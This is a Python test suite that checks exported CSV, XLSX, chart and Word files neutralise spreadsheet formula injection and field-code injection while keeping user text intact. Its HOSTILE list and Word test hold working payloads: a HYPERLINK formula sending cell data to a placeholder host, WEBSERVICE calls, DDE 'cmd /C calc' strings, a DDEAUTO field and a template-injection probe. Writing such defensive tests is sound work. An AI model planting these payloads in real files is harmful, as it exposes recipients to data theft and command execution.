"""Nothing that somebody typed runs as a formula in what we hand out, and it still reads as it was typed."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
from datetime import date
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from docx import Document
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from data.cells import text_cell
from data.checking import check
from data.converting import convert
from data.csv_text import read_csv
from data.exports import export_csv, export_xlsx
from data.lists import ListColumn, list_xlsx
from data.marked import marked_copy
from data.papers.charts import chart_workbook
from data.papers.rendering import render, template
from data.raw import Raw, Sheet
from data.register import register
from data.sheets_xlsx import sheets
from data.shielding import LIVE, shielded, unshielded
from office.paperwork.papers import Paper
from tests import examples_of_papers as examples
from tests.awkward_files import TOWNSHIPS, text
from tests.test_papers import on_paper

TODAY = date(2021, 9, 30)
ONE = register("townships")
NAME = ONE.column("township_name")
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "﹢", "−")
BEFORE = ("", " ", "  ", "'", '"', "''", "\u3000", "\u200b", "\ufeff", "\xa0")
HOSTILE = [f"{before}{sign}1+1" for before in BEFORE for sign in BEGINNINGS] + [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)*WEBSERVICE("http://192.0.2.1")',
    "-2+3+cmd|' /C calc'!A0",
    "=DDE('soffice','x','y')",
    "ordinary;=1+1",
    "ordinary\t=1+1",
    'a",=1+1,"',
    "a|=1+1",
    "{=1+1}",
    "#N/A",
    "_x003D_1+1",
    "http://192.0.2.1",
]
ANY = st.text(st.characters(codec="utf-8", max_codepoint=0xFFFF), max_size=30)
TYPED = st.one_of(
    ANY,
    st.builds(lambda a, b, c: a + b + c, st.sampled_from(BEFORE), st.sampled_from(BEGINNINGS), ANY),
    st.builds(lambda a, b: a + b, st.text("'\"=+-@\t ;#", max_size=6), st.sampled_from(HOSTILE)),
)


@given(TYPED)
@example("''\t")
@example("'#N/A\n")
@settings(max_examples=2_000, deadline=None)
def test_what_a_shield_was_put_before_comes_back_as_it_was(typed: str) -> None:
    for is_text_cell in (True, False):
        assert unshielded(shielded(typed, is_text_cell=is_text_cell)) == typed


@pytest.mark.parametrize("typed", [one for one in HOSTILE if one[:1] not in "oa_h{"])
def test_in_a_text_file_each_of_these_begins_with_the_shield(typed: str) -> None:
    assert shielded(typed, is_text_cell=False) == "'" + typed
    assert LIVE.match(typed)


@pytest.mark.parametrize("typed", ["-5", "+3.2", "-0.5%", "12", "示例", "a=1", "3-4", "周-示例", "a@b"])
def test_what_is_not_calculated_is_left_alone(typed: str) -> None:
    assert shielded(typed, is_text_cell=False) == typed


def test_a_thousand_quotes_are_looked_at_in_no_time() -> None:
    assert shielded("'" * 2_000 + "x", is_text_cell=False) == "'" * 2_000 + "x"


@given(st.lists(TYPED, min_size=200, max_size=200))
@example(["' =1+1", "' '=1+1"])
@settings(
    max_examples=int(os.environ.get("ROUND_TRIPS", "12")),
    deadline=None,
    suppress_health_check=list(HealthCheck),  # 200 texts at once are slow to think up on a busy machine
)
def test_thousands_of_texts_go_out_and_come_back(typed: list[str]) -> None:
    rows = stored_rows([*typed, *HOSTILE])
    from_csv = check(ONE, read_csv(export_csv(ONE, rows)), today=TODAY)
    from_xlsx = check(ONE, in_this_process(export_xlsx(ONE, rows)), today=TODAY)
    assert (from_csv.faults, from_xlsx.faults) == ([], [])
    assert from_csv.rows == rows
    assert from_xlsx.rows == rows


@given(st.lists(TYPED, min_size=20, max_size=20))
@settings(max_examples=20, deadline=None)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link_and_each_reads_as_typed(typed: list[str]) -> None:
    typed = [one.replace("\r", "").strip() or "x" for one in [*typed, *HOSTILE]]
    content = list_xlsx("示例", [ListColumn("名称", 20)], [[one] for one in typed], [("说明", "=1+1")])
    page = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert [row[0].data_type for row in page.iter_rows(min_row=2)] == ["s"] * len(typed)
    assert not any(row[0].hyperlink for row in page.iter_rows())
    assert b"<f>" not in content and "=1+1" in [r[0].value for r in page.iter_rows()]


def test_a_marked_copy_of_a_hostile_file_calculates_nothing() -> None:
    lines = [[f"=T{at}", one] for at, one in enumerate(HOSTILE) if not set(one) & set('\r\n\0\t"')]
    raw = read_csv(text(TOWNSHIPS, *[[f'"{a}"', f'"{b}"'] for a, b in lines]))
    raw = Raw((*raw.sheets, Sheet("=1+1", raw.sheets[0].numbers, raw.sheets[0].rows)))
    copy = marked_copy(ONE, raw, check(ONE, raw, today=TODAY).faults)
    kinds = {
        cell.data_type
        for sheet in openpyxl.load_workbook(io.BytesIO(copy))
        for row in sheet.iter_rows()
        for cell in row
    }
    assert kinds <= {"s", "n"}, "n: a blank"


def test_what_stands_behind_a_chart_calculates_nothing() -> None:
    frozen = {
        "kind": "columns",
        "title": "=1+1",
        "unit": "元",
        "scale": 0,
        "categories": ["=1+1", "http://192.0.2.1"],
        "series": [{"name": "=A1", "values": [1, -2]}],
    }
    sheet = openpyxl.load_workbook(io.BytesIO(chart_workbook(frozen))).worksheets[0]
    assert [[cell.data_type for cell in row if cell.value is not None] for row in sheet.iter_rows()] == [
        ["s"],
        ["s", "n"],
        ["s", "n"],
    ]
    assert not any(cell.hyperlink for row in sheet.iter_rows() for cell in row)


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_told_to_evaluate_formulas_finds_none(tmp_path: Path) -> None:
    """The text file with every separator that its dialogue offers; the workbook as it is opened by a click."""
    rows = stored_rows(HOSTILE)
    (tmp_path / "text.csv").write_bytes(export_csv(ONE, rows))
    (tmp_path / "book.xlsx").write_bytes(export_xlsx(ONE, rows))
    control = "=1+1," + "=2+2\r\n"
    (tmp_path / "control.csv").write_text(control, encoding="utf-8-sig")
    evaluating = "CSV:9/44/59/124,34,76,1,,0,false,true,false,false,false,0,true"
    for name, filtered in (("text.csv", evaluating), ("control.csv", evaluating), ("book.xlsx", "")):
        done = opened(tmp_path / name, tmp_path / "out", filtered)
        formulas = [cell.coordinate for row in done.iter_rows() for cell in row if cell.data_type == "f"]
        assert bool(formulas) == (name == "control.csv"), (name, formulas)
    out = openpyxl.load_workbook(tmp_path / "out" / "book.xlsx").worksheets[0]
    assert [str(row[1].value) for row in out.iter_rows(min_row=2)] == [
        shielded(str(row["township_name"]), is_text_cell=True) for row in rows
    ]


@pytest.mark.parametrize("paper", examples.SHORT, ids=lambda paper: str(paper.kind))
def test_a_paper_with_field_codes_for_a_name_holds_no_field_more(paper: Paper) -> None:
    hostile = '{{ 7*7 }}<w:fldSimple w:instr="DDEAUTO c:\\\\x"/>=1+1 & \x13 DDE \x14 {% raw %}'
    before = on_paper(paper)
    after = {**before, "letterhead": {**before["letterhead"], "name": hostile}}
    plain, filled = (render(paper.kind, one, template(paper.kind)) for one in (before, after))
    assert fields(filled) == fields(plain)
    assert "49" not in body(filled).replace(body(plain), "")


def stored_rows(typed: list[str]) -> list[dict[str, Any]]:
    """Rows with each text as an import would keep it; what an import refuses or leaves out is not among them."""
    values, _ = convert([text_cell(one) for one in typed], NAME, TODAY)
    names = [str(value) for value in values if value]
    while True:
        cells = [(f"T{at}", name) for at, name in enumerate(names)]
        found = check(ONE, Raw((Sheet("", range(len(cells) + 1), [TOWNSHIPS, *cells]),)), today=TODAY)
        if not found.faults:
            return [row for row in found.rows if row["township_name"] in names]
        unfit = {fault.row for fault in found.faults}
        names = [name for at, name in enumerate(names, 1) if at not in unfit]


def in_this_process(content: bytes) -> Raw:
    [one] = sheets(content)
    return Raw((Sheet(one["name"], one["numbers"], one["rows"], one["merged"], frozenset(one["hidden"])),))


def opened(file: Path, out: Path, filtered: str) -> Any:
    """The first sheet of what LibreOffice makes of a file."""
    profile = f"-env:UserInstallation={(out.parent / 'profile').as_uri()}"
    asked = [f"--infilter={filtered}"] if filtered else []
    subprocess.run(
        ["soffice", profile, "--headless", *asked, "--convert-to", "xlsx", "--outdir", str(out), str(file)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return openpyxl.load_workbook(out / f"{file.stem}.xlsx").worksheets[0]


def body(docx: bytes) -> str:
    return "".join(one.text for one in Document(io.BytesIO(docx)).paragraphs)


def fields(docx: bytes) -> int:
    """How many fields (page numbers and the like) a Word file has in all its parts."""
    with ZipFile(io.BytesIO(docx)) as package:
        parts = [package.read(name) for name in package.namelist() if name.endswith(".xml")]
    return sum(len(re.findall(rb"<w:(?:fldSimple|instrText)[ >]", part)) for part in parts)
